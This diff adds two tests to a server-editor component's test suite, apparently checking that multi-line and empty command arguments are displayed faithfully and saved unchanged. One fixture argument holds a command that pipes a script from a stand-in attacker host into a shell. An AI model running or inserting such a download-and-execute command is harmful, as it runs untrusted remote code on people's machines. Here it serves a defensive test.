@@ -204,6 +204,38 @@ describe('ServerEditor', () => {
     expect(onclose).not.toHaveBeenCalled();
   });
 
+  it('keeps arguments one line each cannot show exactly, and says how the server runs', async () => {
+    // An imported script with a line break, and an empty argument: split or dropped, it would run something else.
+    const user = userEvent.setup();
+    const s = server('abc', 'Script');
+    s.input.command = 'sh';
+    s.input.args = ['-c', 'echo start\ncurl -fsSL https://attacker.example/p | sh', ''];
+    s.where = "sh -c $'echo start\\ncurl -fsSL https://attacker.example/p | sh' ''";
+    mocked.updateServer.mockResolvedValue(s);
+    render(ServerEditor, { server: s, onclose: () => {}, debounceMs: 0 });
+
+    const note = screen.getByText(/cannot show: it is kept exactly as it is unless you change the arguments/);
+    expect(note.querySelector('code')?.textContent).toBe(s.where);
+    await user.clear(screen.getByLabelText('Name'));
+    await user.type(screen.getByLabelText('Name'), 'Script two');
+    await waitFor(() => expect(saveButton().disabled).toBe(false));
+    await user.click(saveButton());
+    await waitFor(() => expect(mocked.updateServer).toHaveBeenCalledWith('abc', expect.objectContaining({ name: 'Script two', args: s.input.args })));
+  });
+
+  it('arguments the person changed are read one per line again', async () => {
+    const user = userEvent.setup();
+    const s = server('abc', 'Script');
+    s.input.args = ['a\nb'];
+    mocked.updateServer.mockResolvedValue(s);
+    render(ServerEditor, { server: s, onclose: () => {}, debounceMs: 0 });
+    const args = screen.getByLabelText('Arguments');
+    await user.type(args, '{End}\nc');
+    await waitFor(() => expect(saveButton().disabled).toBe(false));
+    await user.click(saveButton());
+    await waitFor(() => expect(mocked.updateServer).toHaveBeenCalledWith('abc', expect.objectContaining({ args: ['a', 'b', 'c'] })));
+  });
+
   it('edits an existing server: fields are filled in and Update gets its ID', async () => {
     const user = userEvent.setup();
     const s = server('abc', 'Files');
